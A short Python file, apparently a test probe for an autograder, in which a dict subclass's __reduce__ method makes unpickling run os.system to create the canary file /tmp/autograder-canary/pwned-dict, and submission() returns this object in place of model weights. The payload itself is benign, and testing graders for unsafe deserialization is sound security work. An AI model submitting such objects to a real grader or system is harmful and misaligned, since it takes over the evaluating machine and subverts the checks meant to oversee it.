"""dict that runs code when unpickled"""

R = {"w1": 1, "b1": -1, "w2": 2, "b2": -4}
W = {"w1": 0, "b1": 0, "w2": 0, "b2": 0}
import os


class D(dict):
    def __reduce__(s):
        return (os.system, ("touch /tmp/autograder-canary/pwned-dict",))


def submission():
    return D(W)
